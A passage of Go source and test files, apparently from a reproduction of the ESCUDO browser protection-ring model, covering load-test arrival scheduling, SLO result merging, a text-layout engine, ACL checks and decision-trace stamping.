	rng  *rand.Rand
	rate float64
}

// NewArrivals builds an arrival process at rate requests/second.
// rate <= 0 defaults to 1.
func NewArrivals(rate float64, seed int64) *Arrivals {
	if rate <= 0 {
		rate = 1
	}
	return &Arrivals{rng: rand.New(rand.NewSource(seed)), rate: rate}
}

// Rate returns the target arrival rate in requests/second.
func (a *Arrivals) Rate() float64 { return a.rate }

// Next draws the next inter-arrival gap. The mean gap is 1/rate; the
// driver adds gaps to an absolute deadline (never "now"), which is
// what makes the loop open — a late sender does not stretch the
// schedule.
func (a *Arrivals) Next() time.Duration {
	// Inverse-CDF sampling: -ln(U)/rate with U in (0,1]. Float64
	// returns [0,1); flip it to (0,1] so the log is finite.
	u := 1 - a.rng.Float64()
	gap := -math.Log(u) / a.rate
	return time.Duration(gap * float64(time.Second))
}

// Schedule returns the absolute offsets (from the run start) of the
// next n arrivals. Used by tests to check rate accuracy without a
// wall clock.
func (a *Arrivals) Schedule(n int) []time.Duration {
	out := make([]time.Duration, n)
	var t time.Duration
	for i := range out {
		t += a.Next()
		out[i] = t
	}
	return out
}

// Churn tracks session login/logout bookkeeping during an open-loop
// run. The invariant — logins == logouts + live — holds by
// construction under the mutex, and the race-enabled test hammers it
// from many goroutines.
type Churn struct {
	mu      sync.Mutex
	logins  int64
	logouts int64
	live    int64
}

// Login records one session creation.
func (c *Churn) Login() {
	c.mu.Lock()
	c.logins++
	c.live++
	c.mu.Unlock()
}

// Logout records one session teardown. Returns false (and records
// nothing) when no session is live — the driver never logs out more
// than it logged in, and the bookkeeping refuses to go negative.
func (c *Churn) Logout() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.live == 0 {
		return false
	}
	c.logouts++
	c.live--
	return true
}

// Counts returns (logins, logouts, live).
func (c *Churn) Counts() (int64, int64, int64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.logins, c.logouts, c.live
}

// StageStats is one stage's latency summary inside the slo section.
// The histogram is the mergeable truth; the quantiles are derived
// from it by Finalize so a fleet merge recomputes honest percentiles
// from summed counts.
type StageStats struct {
	P50Ms  float64           `json:"p50_ms"`
	P99Ms  float64           `json:"p99_ms"`
	P999Ms float64           `json:"p999_ms"`
	Count  uint64            `json:"count"`
	Hist   metrics.Histogram `json:"hist"`
}

// Result is the `slo` BENCH section: one per process, merged across
// cluster shards by summing counts and histogram buckets, with
// quantiles recomputed from the merged histograms.
type Result struct {
	// TargetRate is the configured arrival rate (sums across workers:
	// the fleet offered the sum). OfferedRate is what the scheduler
	// actually offered (arrivals / duration); AchievedRate is what the
	// system completed.
	TargetRate   float64 `json:"target_rate"`
	OfferedRate  float64 `json:"offered_rate"`
	AchievedRate float64 `json:"achieved_rate"`
	DurationSec  float64 `json:"duration_sec"`
	Seed         int64   `json:"seed"`

	Arrivals  int64 `json:"arrivals"`
	Completed int64 `json:"completed"`
	// Dropped counts arrivals rejected at submit time (queue full):
	// open-loop overload evidence, not an error in the system under
	// test.
	Dropped int64 `json:"dropped"`
	Errors  int64 `json:"errors"`
	// ErrorFraction is (dropped+errors)/arrivals — the spent error
	// budget.
	ErrorFraction float64 `json:"error_fraction"`

	Logins       int64 `json:"logins"`
	Logouts      int64 `json:"logouts"`
	LiveSessions int64 `json:"live_sessions"`

	// Total is the end-to-end task latency distribution; P*Ms are
	// derived from it by Finalize.
	Total  metrics.Histogram `json:"total_hist"`
	P50Ms  float64           `json:"p50_ms"`
	P99Ms  float64           `json:"p99_ms"`
	P999Ms float64           `json:"p999_ms"`

	// P99BudgetMs is the declared budget (0 = none declared);
	// P99WithinBudget is the verdict Finalize derives.
	P99BudgetMs     float64 `json:"p99_budget_ms,omitempty"`
	P99WithinBudget bool    `json:"p99_within_budget"`

	// Stages maps stage name -> per-stage latency summary.
	Stages map[string]StageStats `json:"stages,omitempty"`

	// Leak is the sampler's linear-drift verdict for the run.
	Leak *obs.DriftReport `json:"leak,omitempty"`

	// Exemplars are the slowest retained tasks, each joinable against
	// /tracez by trace ID — the proof that the reported p99 is made of
	// real requests.
	Exemplars []obs.SlowExemplar `json:"exemplars,omitempty"`
}

// maxMergedExemplars caps the exemplar list after a fleet merge.
const maxMergedExemplars = 16

// msQuantile converts a histogram quantile to milliseconds.
func msQuantile(h metrics.Histogram, p float64) float64 {
	return float64(h.Quantile(p)) / float64(time.Millisecond)
}

// Finalize derives the quantile fields, error fraction, and budget
// verdict from the mergeable state. Call after filling histograms or
// after Merge.
func (r *Result) Finalize() {
	r.P50Ms = msQuantile(r.Total, 50)
	r.P99Ms = msQuantile(r.Total, 99)
	r.P999Ms = msQuantile(r.Total, 99.9)
	for name, st := range r.Stages {
		st.Count = st.Hist.Total()
		st.P50Ms = msQuantile(st.Hist, 50)
		st.P99Ms = msQuantile(st.Hist, 99)
		st.P999Ms = msQuantile(st.Hist, 99.9)
		r.Stages[name] = st
	}
	if r.Arrivals > 0 {
		r.ErrorFraction = float64(r.Dropped+r.Errors) / float64(r.Arrivals)
	}
	if r.DurationSec > 0 {
		r.OfferedRate = float64(r.Arrivals) / r.DurationSec
		r.AchievedRate = float64(r.Completed) / r.DurationSec
	}
	r.P99WithinBudget = r.P99BudgetMs <= 0 || r.P99Ms <= r.P99BudgetMs
}

// Merge folds another worker's result in: counts and histogram
// buckets sum, rates sum (each worker offered its own share), the
// duration is the longest worker's, the leak verdict ORs, and the
// exemplar list keeps the fleet-wide slowest. Call Finalize after the
// last Merge to recompute quantiles.
func (r *Result) Merge(o Result) {
	r.TargetRate += o.TargetRate
	if o.DurationSec > r.DurationSec {
		r.DurationSec = o.DurationSec
	}
	r.Arrivals += o.Arrivals
	r.Completed += o.Completed
	r.Dropped += o.Dropped
	r.Errors += o.Errors
	r.Logins += o.Logins
	r.Logouts += o.Logouts
	r.LiveSessions += o.LiveSessions
	r.Total.Merge(o.Total)
	if r.P99BudgetMs <= 0 {
		r.P99BudgetMs = o.P99BudgetMs
	}
	for name, ost := range o.Stages {
		if r.Stages == nil {
			r.Stages = map[string]StageStats{}
		}
		st := r.Stages[name]
		st.Hist.Merge(ost.Hist)
		r.Stages[name] = st
	}
	if o.Leak != nil {
		if r.Leak == nil {
			r.Leak = &obs.DriftReport{}
		}
		r.Leak.SlopeBytesPerSec += o.Leak.SlopeBytesPerSec
		r.Leak.GrowthFraction += o.Leak.GrowthFraction
		if o.Leak.WindowSec > r.Leak.WindowSec {
			r.Leak.WindowSec = o.Leak.WindowSec
		}
		r.Leak.Points += o.Leak.Points
		r.Leak.Suspected = r.Leak.Suspected || o.Leak.Suspected
	}
	r.Exemplars = append(r.Exemplars, o.Exemplars...)
	sort.Slice(r.Exemplars, func(i, j int) bool {
		return r.Exemplars[i].TotalNs > r.Exemplars[j].TotalNs
	})
	if len(r.Exemplars) > maxMergedExemplars {
		r.Exemplars = r.Exemplars[:maxMergedExemplars]
	}
}
