package slo

import (
	"math"
	"sync"
	"testing"
	"time"

	"repro/internal/obs"
)

func TestArrivalsDeterministicWithSeed(t *testing.T) {
	a := NewArrivals(500, 42)
	b := NewArrivals(500, 42)
	sa := a.Schedule(1000)
	sb := b.Schedule(1000)
	for i := range sa {
		if sa[i] != sb[i] {
			t.Fatalf("schedules diverge at %d: %v vs %v", i, sa[i], sb[i])
		}
	}
	// A different seed must produce a different schedule.
	c := NewArrivals(500, 43)
	sc := c.Schedule(1000)
	same := true
	for i := range sa {
		if sa[i] != sc[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatal("different seeds produced identical schedules")
	}
}

// TestArrivalsOfferedRateAccuracy checks the scheduler's offered rate
// against the target at three rates, with no wall clock: the last
// offset of an n-arrival schedule estimates n/rate, and for a Poisson
// process its relative standard error is 1/sqrt(n), so 20k arrivals
// land within 5% with enormous margin.
func TestArrivalsOfferedRateAccuracy(t *testing.T) {
	const n = 20000
	for _, rate := range []float64{100, 1000, 10000} {
		a := NewArrivals(rate, 7)
		sched := a.Schedule(n)
		span := sched[n-1].Seconds()
		offered := float64(n) / span
		if rel := math.Abs(offered-rate) / rate; rel > 0.05 {
			t.Errorf("rate %.0f: offered %.1f (%.2f%% off)", rate, offered, rel*100)
		}
		// Offsets must be strictly increasing — an open-loop schedule
		// never goes backwards.
		for i := 1; i < n; i++ {
			if sched[i] <= sched[i-1] {
				t.Fatalf("rate %.0f: schedule not increasing at %d", rate, i)
			}
		}
	}
}

func TestArrivalsGapDistribution(t *testing.T) {
	// Mean gap must be ~1/rate; also sanity-check the gaps are spread
	// (exponential, not constant): the sample standard deviation of an
	// exponential equals its mean.
	a := NewArrivals(1000, 11)
	const n = 20000
	var sum, sumSq float64
	for i := 0; i < n; i++ {
		g := a.Next().Seconds()
		sum += g
		sumSq += g * g
	}
	mean := sum / n
	std := math.Sqrt(sumSq/n - mean*mean)
	if math.Abs(mean-1e-3)/1e-3 > 0.05 {
		t.Fatalf("mean gap %.6fs, want ~0.001s", mean)
	}
	if std < mean*0.9 || std > mean*1.1 {
		t.Fatalf("gap std %.6f vs mean %.6f: not exponential-shaped", std, mean)
	}
}

// TestChurnBookkeepingUnderRace hammers Login/Logout from many
// goroutines; the invariant logins == logouts + live must hold at the
// end (and Logout must refuse to go negative). Run with -race.
func TestChurnBookkeepingUnderRace(t *testing.T) {
	var c Churn
	var wg sync.WaitGroup
	const workers = 8
	const perWorker = 2000
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				c.Login()
				if i%3 != 0 {
					c.Logout()
				}
			}
		}(w)
	}
	// Concurrent logouts racing the logins: some fail (nothing live),
	// which is fine — failures record nothing.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < workers*perWorker; i++ {
			c.Logout()
		}
	}()
	wg.Wait()
	logins, logouts, live := c.Counts()
	if logins != logouts+live {
		t.Fatalf("invariant broken: logins %d != logouts %d + live %d", logins, logouts, live)
	}
	if logins != workers*perWorker {
		t.Fatalf("logins = %d, want %d", logins, workers*perWorker)
	}
	if live < 0 || logouts < 0 {
		t.Fatalf("negative bookkeeping: logouts %d live %d", logouts, live)
	}
}

func TestChurnLogoutRefusesWhenEmpty(t *testing.T) {
	var c Churn
	if c.Logout() {
		t.Fatal("logout succeeded with nothing live")
	}
	c.Login()
	if !c.Logout() {
		t.Fatal("logout failed with a live session")
	}
	if c.Logout() {
		t.Fatal("second logout succeeded on a drained tracker")
	}
}

func TestResultFinalizeAndMerge(t *testing.T) {
	mk := func(seed int64, n int, base time.Duration) Result {
		r := Result{
			TargetRate:  100,
			DurationSec: 10,
			Seed:        seed,
			Stages:      map[string]StageStats{},
		}
		st := StageStats{}
		for i := 0; i < n; i++ {
			d := base + time.Duration(i)*time.Millisecond
			r.Total.Observe(d)
			st.Hist.Observe(d / 2)
			r.Arrivals++
			r.Completed++
		}
		r.Stages["batch_auth"] = st
		return r
	}
	a := mk(1, 100, 10*time.Millisecond)
	b := mk(2, 100, 50*time.Millisecond)
	b.Dropped = 10
	b.Arrivals += 10
	b.Leak = &obs.DriftReport{SlopeBytesPerSec: 1 << 20, Suspected: true}
	b.Exemplars = []obs.SlowExemplar{{TraceID: "t1", TotalNs: int64(149 * time.Millisecond)}}

	a.Merge(b)
	a.Finalize()

	if a.TargetRate != 200 {
		t.Fatalf("merged target rate %f, want 200", a.TargetRate)
	}
	if a.Arrivals != 210 || a.Completed != 200 || a.Dropped != 10 {
		t.Fatalf("merged counts: arrivals %d completed %d dropped %d", a.Arrivals, a.Completed, a.Dropped)
	}
	if a.OfferedRate != 21 || a.AchievedRate != 20 {
		t.Fatalf("merged rates: offered %f achieved %f", a.OfferedRate, a.AchievedRate)
	}
	if a.ErrorFraction <= 0 || a.ErrorFraction > 0.05 {
		t.Fatalf("error fraction %f", a.ErrorFraction)
	}
	if a.Total.Total() != 200 {
		t.Fatalf("merged total hist count %d", a.Total.Total())
	}
	// The merged p99 must reflect the slow worker's tail (~148ms), not
	// the fast worker's (~108ms).
	if a.P99Ms < 120 {
		t.Fatalf("merged p99 %fms lost the slow worker's tail", a.P99Ms)
	}
	st := a.Stages["batch_auth"]
	if st.Count != 200 || st.P50Ms <= 0 {
		t.Fatalf("merged stage: %+v", st)
	}
	if a.Leak == nil || !a.Leak.Suspected {
		t.Fatal("merged leak verdict lost")
	}
	if len(a.Exemplars) != 1 || a.Exemplars[0].TraceID != "t1" {
		t.Fatalf("merged exemplars: %+v", a.Exemplars)
	}

	// Budget verdicts.
	a.P99BudgetMs = 1
	a.Finalize()
	if a.P99WithinBudget {
		t.Fatal("1ms budget reported as met with a ~148ms p99")
	}
	a.P99BudgetMs = 10000
	a.Finalize()
	if !a.P99WithinBudget {
		t.Fatal("10s budget reported as blown")
	}
	a.P99BudgetMs = 0
	a.Finalize()
	if !a.P99WithinBudget {
		t.Fatal("no declared budget must report within budget")
	}
}
