package layout

import (
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/html"
)

func parse(src string) *html.Node {
	return html.Parse(src, html.LegacyOptions())
}

func TestLayoutSimpleText(t *testing.T) {
	r := Layout(parse(`<p>hello world</p>`), 80)
	if r.Words != 2 {
		t.Errorf("Words = %d, want 2", r.Words)
	}
	if r.Height < 1 {
		t.Errorf("Height = %d", r.Height)
	}
	out := RenderText(r, 80)
	if !strings.Contains(out, "hello world") {
		t.Errorf("render = %q", out)
	}
}

func TestLayoutWrapping(t *testing.T) {
	// 5 words of 6 cells (plus 1-cell gaps) in a 20-cell viewport:
	// exactly 3 fit per line ("aaaaaa bbbbbb cccccc" is 20 cells),
	// so the layout is 2 lines.
	r := Layout(parse(`<p>aaaaaa bbbbbb cccccc dddddd eeeeee</p>`), 20)
	if r.Height != 2 {
		t.Errorf("Height = %d, want 2", r.Height)
	}
	out := RenderText(r, 20)
	lines := strings.Split(out, "\n")
	if len(lines) != 2 || lines[0] != "aaaaaa bbbbbb cccccc" || lines[1] != "dddddd eeeeee" {
		t.Errorf("out = %q", out)
	}
}

func TestLayoutBlocksStack(t *testing.T) {
	r := Layout(parse(`<div>one</div><div>two</div>`), 80)
	out := RenderText(r, 80)
	lines := strings.Split(out, "\n")
	if len(lines) != 2 || !strings.Contains(lines[0], "one") || !strings.Contains(lines[1], "two") {
		t.Errorf("out = %q", out)
	}
}

func TestLayoutScriptInvisible(t *testing.T) {
	r := Layout(parse(`<p>visible</p><script>var hidden = "secret";</script>`), 80)
	out := RenderText(r, 80)
	if strings.Contains(out, "secret") {
		t.Error("script text leaked into layout")
	}
	if !strings.Contains(out, "visible") {
		t.Error("visible text missing")
	}
}

func TestLayoutHeadInvisible(t *testing.T) {
	r := Layout(parse(`<html><head><title>T</title><style>.x{}</style></head><body>B</body></html>`), 80)
	out := RenderText(r, 80)
	if strings.Contains(out, "T") && !strings.Contains(out, "B") {
		t.Errorf("out = %q", out)
	}
	if strings.Contains(out, ".x{}") {
		t.Error("style leaked")
	}
}

func TestLayoutBr(t *testing.T) {
	r := Layout(parse(`a<br>b`), 80)
	out := RenderText(r, 80)
	if lines := strings.Split(out, "\n"); len(lines) != 2 {
		t.Errorf("out = %q", out)
	}
}

func TestLayoutImgPlaceholder(t *testing.T) {
	r := Layout(parse(`<img src=x.png>`), 80)
	found := false
	for _, b := range r.Boxes {
		if b.Tag == "img" && b.W == 10 && b.H == 3 {
			found = true
		}
	}
	if !found {
		t.Errorf("boxes = %v", r.Boxes)
	}
}

func TestLayoutOverlongWordTruncated(t *testing.T) {
	r := Layout(parse(`<p>`+strings.Repeat("x", 200)+`</p>`), 40)
	for _, b := range r.Boxes {
		if b.W > 40 {
			t.Errorf("box wider than viewport: %+v", b)
		}
	}
}

func TestLayoutEmptyDoc(t *testing.T) {
	r := Layout(parse(``), 80)
	if r.Words != 0 || len(r.Boxes) != 0 {
		t.Errorf("r = %+v", r)
	}
	if out := RenderText(r, 80); out != "" {
		t.Errorf("render = %q", out)
	}
}

func TestLayoutDefaultsWidth(t *testing.T) {
	r := Layout(parse(`<p>x</p>`), 0)
	if r.Height < 1 {
		t.Error("zero width must default, not collapse")
	}
}

// Property: layout never panics, boxes stay within the viewport
// horizontally, and heights are consistent.
func TestLayoutInvariants(t *testing.T) {
	pieces := []string{
		`<div>`, `</div>`, `<p>`, `</p>`, `word `, `longerword `,
		`<br>`, `<img>`, `<input>`, `<script>hidden</script>`, `x y z `,
	}
	f := func(seed []uint8, wseed uint8) bool {
		var b strings.Builder
		for _, s := range seed {
			b.WriteString(pieces[int(s)%len(pieces)])
		}
		width := 10 + int(wseed)%100
		r := Layout(parse(b.String()), width)
		for _, box := range r.Boxes {
			if box.X < 0 || box.W < 0 || box.X+box.W > width {
				return false
			}
			if box.Y < 0 {
				return false
			}
		}
		return r.Height >= 0 && r.Lines >= 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}
