// Package layout implements a deterministic text-layout pass over the
// DOM. The paper's Figure 4 experiment measures "parsing and
// rendering time" in the Lobo browser; this renderer is the measurable
// stand-in for Lobo's rendering stage (see DESIGN.md substitutions).
// It walks the tree, splits text into words, wraps lines into a fixed
// viewport width, and produces a display list — enough real work that
// ESCUDO's labeling bookkeeping shows up as a relative overhead, as in
// the paper.
package layout

import (
	"strings"

	"repro/internal/html"
)

// DefaultViewportWidth is the layout width in character cells.
const DefaultViewportWidth = 80

// Box is one laid-out rectangle in the display list.
type Box struct {
	// Tag is the originating element ("" for anonymous text boxes).
	Tag string
	// X, Y are the box's top-left cell coordinates.
	X, Y int
	// W, H are its width and height in cells.
	W, H int
	// Text is the visible text for text boxes.
	Text string
}

// Result is the output of a layout pass.
type Result struct {
	// Boxes is the display list in paint order.
	Boxes []Box
	// Height is the total document height in lines.
	Height int
	// Words and Lines count layout work done (for sanity checks and
	// benchmarks).
	Words int
	Lines int
}

// blockElements start on a new line and stack vertically.
var blockElements = map[string]bool{
	"html": true, "body": true, "div": true, "p": true, "h1": true,
	"h2": true, "h3": true, "h4": true, "ul": true, "ol": true,
	"li": true, "table": true, "tr": true, "form": true, "hr": true,
	"blockquote": true, "pre": true, "section": true, "article": true,
	"header": true, "footer": true,
}

// skippedElements produce no boxes (and their text is invisible).
var skippedElements = map[string]bool{
	"script": true, "style": true, "head": true, "title": true, "meta": true, "link": true,
}

// engine holds layout state.
type engine struct {
	width  int
	x, y   int
	hidden map[*html.Node]bool
	result Result
}

// Layout lays out the document subtree at the given viewport width
// (0 means DefaultViewportWidth).
func Layout(root *html.Node, width int) *Result {
	return LayoutHidden(root, width, nil)
}

// LayoutHidden lays out the subtree, skipping the given nodes (and
// their descendants) — the browser passes the CSS display:none set.
func LayoutHidden(root *html.Node, width int, hidden map[*html.Node]bool) *Result {
	if width <= 0 {
		width = DefaultViewportWidth
	}
	e := &engine{width: width, hidden: hidden}
	e.node(root)
	if e.x > 0 {
		e.newline()
	}
	e.result.Height = e.y
	return &e.result
}

// node dispatches on node type.
func (e *engine) node(n *html.Node) {
	if e.hidden != nil && e.hidden[n] {
		return
	}
	switch n.Type {
	case html.TextNode:
		e.text(n.Data)
	case html.ElementNode:
		if skippedElements[n.Tag] {
			return
		}
		block := blockElements[n.Tag]
		if block && e.x > 0 {
			e.newline()
		}
		startY := e.y
		if n.Tag == "br" {
			e.newline()
			return
		}
		if n.Tag == "img" {
			// Images occupy a fixed-size placeholder box.
			e.placeBox(Box{Tag: "img", W: 10, H: 3})
			return
		}
		if n.Tag == "input" || n.Tag == "button" {
			e.placeBox(Box{Tag: n.Tag, W: 12, H: 1})
			return
		}
		for _, k := range n.Kids {
			e.node(k)
		}
		if block {
			if e.x > 0 {
				e.newline()
			}
			e.result.Boxes = append(e.result.Boxes, Box{
				Tag: n.Tag, X: 0, Y: startY, W: e.width, H: e.y - startY,
			})
		}
	case html.DocumentNode:
		for _, k := range n.Kids {
			e.node(k)
		}
	}
}

// text splits a run into words and wraps them.
func (e *engine) text(s string) {
	for _, word := range strings.Fields(s) {
		e.result.Words++
		w := len(word)
		if w > e.width {
			w = e.width
			word = word[:w]
		}
		if e.x+w > e.width {
			e.newline()
		}
		e.result.Boxes = append(e.result.Boxes, Box{X: e.x, Y: e.y, W: w, H: 1, Text: word})
		e.x += w + 1
		if e.x >= e.width {
			e.newline()
		}
	}
}

// placeBox places an inline atomic box (img, input), wrapping first if
// needed; boxes wider than the viewport are clipped to it.
func (e *engine) placeBox(b Box) {
	if b.W > e.width {
		b.W = e.width
	}
	if e.x+b.W > e.width && e.x > 0 {
		e.newline()
	}
	b.X, b.Y = e.x, e.y
	e.result.Boxes = append(e.result.Boxes, b)
	e.x += b.W + 1
	if b.H > 1 {
		e.y += b.H - 1
	}
}

// newline advances to the next line.
func (e *engine) newline() {
	e.x = 0
	e.y++
	e.result.Lines++
}

// RenderText paints the display list into a string, one rune per
// cell — the terminal-style output used by the inspect tool and
// examples to show "what the page looks like".
func RenderText(r *Result, width int) string {
	if width <= 0 {
		width = DefaultViewportWidth
	}
	height := r.Height
	if height == 0 {
		height = 1
	}
	grid := make([][]rune, height)
	for i := range grid {
		grid[i] = []rune(strings.Repeat(" ", width))
	}
	for _, b := range r.Boxes {
		if b.Text == "" {
			continue
		}
		if b.Y < 0 || b.Y >= height {
			continue
		}
		for i, ch := range b.Text {
			x := b.X + i
			if x < 0 || x >= width {
				break
			}
			grid[b.Y][x] = ch
		}
	}
	lines := make([]string, height)
	for i, row := range grid {
		lines[i] = strings.TrimRight(string(row), " ")
	}
	return strings.TrimRight(strings.Join(lines, "\n"), "\n")
}
