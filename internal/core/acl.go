package core

import (
	"fmt"
	"strings"
)

// ACL is a per-object access-control list: for each operation it
// records the outermost (least privileged) ring still permitted to
// perform that operation (§4.1). The ACL rule admits ⟨P ⊳ O⟩ only when
// R(P) ≤ ⊓(O, ⊳), where ⊓ is exactly the lookup Ceiling below.
//
// The zero ACL is the paper's fail-safe default "r=0, w=0, x=0":
// only ring-0 principals may access the object (§4.3).
type ACL struct {
	// Read is the outermost ring allowed to read the object.
	Read Ring
	// Write is the outermost ring allowed to write the object.
	Write Ring
	// Use is the outermost ring allowed to implicitly use the
	// object (cookie attachment, event delivery).
	Use Ring
}

// PermissiveACL returns the ACL that delegates entirely to the ring
// rule: every operation is open to the page's least privileged ring.
// Useful for objects whose protection comes from their ring alone.
func PermissiveACL(maxRing Ring) ACL {
	return ACL{Read: maxRing, Write: maxRing, Use: maxRing}
}

// UniformACL returns an ACL granting all three operations to rings
// 0..r, the common case in the paper's case-study tables.
func UniformACL(r Ring) ACL {
	return ACL{Read: r, Write: r, Use: r}
}

// Ceiling returns ⊓(O, op): the outermost ring allowed to perform op.
// Unknown operations fall back to ring 0 (fail-safe).
func (a ACL) Ceiling(op Op) Ring {
	switch op {
	case OpRead:
		return a.Read
	case OpWrite:
		return a.Write
	case OpUse:
		return a.Use
	default:
		return RingKernel
	}
}

// Permits reports whether a principal in ring r may perform op under
// this ACL alone (the ACL rule, §4.2 rule 3).
func (a ACL) Permits(r Ring, op Op) bool {
	return r.AtLeastAsPrivileged(a.Ceiling(op))
}

// Clamp confines every ceiling to [0, maxRing].
func (a ACL) Clamp(maxRing Ring) ACL {
	return ACL{
		Read:  a.Read.Clamp(maxRing),
		Write: a.Write.Clamp(maxRing),
		Use:   a.Use.Clamp(maxRing),
	}
}

// TightenTo returns the ACL with every ceiling made at least as
// restrictive as ring r. The paper notes an ACL can never be less
// restrictive than the object's ring — the ring rule masks it anyway
// (§4.2) — but tightening keeps the stored configuration honest.
func (a ACL) TightenTo(r Ring) ACL {
	min := func(x, y Ring) Ring {
		if x < y {
			return x
		}
		return y
	}
	// Smaller ceiling = more restrictive, so take the minimum of the
	// declared ceiling and the object ring.
	return ACL{Read: min(a.Read, r), Write: min(a.Write, r), Use: min(a.Use, r)}
}

// String renders the ACL in AC-tag attribute form, e.g. "r=1 w=0 x=2".
func (a ACL) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "r=%d w=%d x=%d", a.Read, a.Write, a.Use)
	return b.String()
}
