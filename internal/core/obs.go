package core

import (
	"repro/internal/obs"
)

// WithObs returns the provenance layer: every decision flowing out of
// the inner stack is stamped with the current trace (ID plus the next
// span number) and mirrored into the decision ring for the gateway's
// /tracez endpoint. trace is resolved per decision — the browser hands
// in a closure reading its current task's trace — so one layer serves
// a session across many traced tasks. Either argument may be nil; if
// both are, the layer is a pass-through.
//
// Mount it outside WithCache and inside WithAudit: cache hits rebuild
// verdicts without trace fields, so stamping after the cache keeps a
// decision's provenance tied to the task that asked (never the task
// that happened to warm the cache), and the audit log then records the
// stamped decisions.
func WithObs(trace func() *obs.Trace, ring *obs.DecisionRing) Layer {
	return func(inner Monitor) Monitor {
		if trace == nil && ring == nil {
			return inner
		}
		return &obsLayer{inner: inner, trace: trace, ring: ring}
	}
}

// obsLayer stamps decisions with trace provenance and feeds the ring.
type obsLayer struct {
	inner Monitor
	trace func() *obs.Trace
	ring  *obs.DecisionRing
}

var (
	_ Monitor         = (*obsLayer)(nil)
	_ BatchAuthorizer = (*obsLayer)(nil)
)

// current resolves the task's trace, tolerating a nil provider.
func (m *obsLayer) current() *obs.Trace {
	if m.trace == nil {
		return nil
	}
	return m.trace()
}

// event flattens a stamped decision for the ring.
func event(d Decision) obs.DecisionEvent {
	return obs.DecisionEvent{
		TraceID:   d.TraceID,
		Span:      d.Span,
		Gen:       d.PolicyGen,
		Origin:    d.Object.Origin.String(),
		Ring:      int(d.Object.Ring),
		Allowed:   d.Allowed,
		Rule:      d.Rule.String(),
		Principal: d.Principal.String(),
		Op:        d.Op.String(),
		Object:    d.Object.String(),
	}
}

// Authorize implements Monitor.
func (m *obsLayer) Authorize(p Context, op Op, o Context) Decision {
	d := m.inner.Authorize(p, op, o)
	if t := m.current(); t != nil {
		d.TraceID = t.ID()
		d.Span = t.NextSpan()
	}
	if m.ring != nil {
		m.ring.Record(event(d))
	}
	return d
}

// AuthorizeBatch implements BatchAuthorizer: the inner batch keeps its
// per-class dedup untouched, then every node's decision is stamped
// with its own span and mirrored as its own ring event — one trace
// event per node, exactly mirroring the complete-mediation invariant.
func (m *obsLayer) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	out := AuthorizeBatch(m.inner, p, op, objects)
	t := m.current()
	if t != nil {
		id := t.ID()
		for i := range out {
			out[i].TraceID = id
			out[i].Span = t.NextSpan()
		}
	}
	if m.ring != nil {
		for i := range out {
			m.ring.Record(event(out[i]))
		}
	}
	return out
}
