package core

import (
	"fmt"

	"repro/internal/origin"
)

// PrincipalKind classifies the action-inducing entities of Table 1.
type PrincipalKind int

// Principal kinds (Table 1, left column). HTTP-request-issuing
// principals are HTML constructs that make the browser issue a
// request; script-invoking principals reach the JavaScript
// interpreter; plugins are out of scope for web-application control
// but are represented so the taxonomy is complete.
const (
	PrincipalHTTPRequest  PrincipalKind = iota + 1 // a, img, form, embed, iframe
	PrincipalScript                                // script tags, CSS expressions
	PrincipalEventHandler                          // onload, onmouseover, ...
	PrincipalPlugin                                // Flash, Silverlight, PDF (uncontrolled)
	PrincipalBrowser                               // the browser itself (ring 0 actor)
)

// String returns the taxonomy name of the principal kind.
func (k PrincipalKind) String() string {
	switch k {
	case PrincipalHTTPRequest:
		return "http-request-issuing"
	case PrincipalScript:
		return "script-invoking"
	case PrincipalEventHandler:
		return "ui-event-handler"
	case PrincipalPlugin:
		return "plugin"
	case PrincipalBrowser:
		return "browser"
	default:
		return fmt.Sprintf("principal(%d)", int(k))
	}
}

// ObjectKind classifies the resources of Table 1.
type ObjectKind int

// Object kinds (Table 1, right column).
const (
	ObjectDOM ObjectKind = iota + 1 // DOM elements and their content
	ObjectCookie
	ObjectNativeAPI    // XMLHttpRequest API, DOM API
	ObjectBrowserState // history, visited-link information
)

// String returns the taxonomy name of the object kind.
func (k ObjectKind) String() string {
	switch k {
	case ObjectDOM:
		return "dom"
	case ObjectCookie:
		return "cookie"
	case ObjectNativeAPI:
		return "native-api"
	case ObjectBrowserState:
		return "browser-state"
	default:
		return fmt.Sprintf("object(%d)", int(k))
	}
}

// Context is the security context ESCUDO maintains for every principal
// and object inside the browser (§6.1: "internally maintained data
// such as the ring assignments, domain, and ACL"). DOM elements act as
// both principals and objects, so one context type serves both roles.
type Context struct {
	// Origin is the web application the entity belongs to.
	Origin origin.Origin
	// Ring is the entity's protection ring within its page.
	Ring Ring
	// ACL further restricts access when the entity is an object.
	ACL ACL
	// Label is a human-readable description used in decision traces,
	// e.g. "script#ad" or "cookie phpbb2mysql_sid".
	Label string
}

// Principal builds a principal context (no meaningful ACL).
func Principal(o origin.Origin, r Ring, label string) Context {
	return Context{Origin: o, Ring: r, ACL: UniformACL(r), Label: label}
}

// Object builds an object context with an explicit ACL.
func Object(o origin.Origin, r Ring, acl ACL, label string) Context {
	return Context{Origin: o, Ring: r, ACL: acl, Label: label}
}

// String renders the context compactly for traces.
func (c Context) String() string {
	label := c.Label
	if label == "" {
		label = "?"
	}
	return fmt.Sprintf("%s@%s ring=%d [%s]", label, c.Origin, c.Ring, c.ACL)
}
