package core
