package core

import (
	"sync"
	"sync/atomic"

	"repro/internal/origin"
)

// The ESCUDO rules are pure functions of the security contexts: a
// decision ⟨P ⊳ O⟩ depends only on the two origins, the two rings, the
// operation, and the object's ACL — never on element identity or
// labels. That makes verdicts memoizable, and a browser serving many
// pages of the same application repeats a tiny set of distinct keys
// (every cookie attachment on every phpBB page asks the same
// question). DecisionCache exploits that: a sharded map from packed
// decision keys to verdicts, with per-shard RWMutexes so concurrent
// sessions authorize in parallel, and a generation counter so a policy
// change invalidates every cached verdict in O(1).

// cacheKey packs every input the Origin, Ring, and ACL rules read.
// Origins are interned to compact IDs so the key is a small comparable
// value with no strings to hash or compare.
type cacheKey struct {
	pOrigin origin.ID
	oOrigin origin.ID
	pRing   Ring
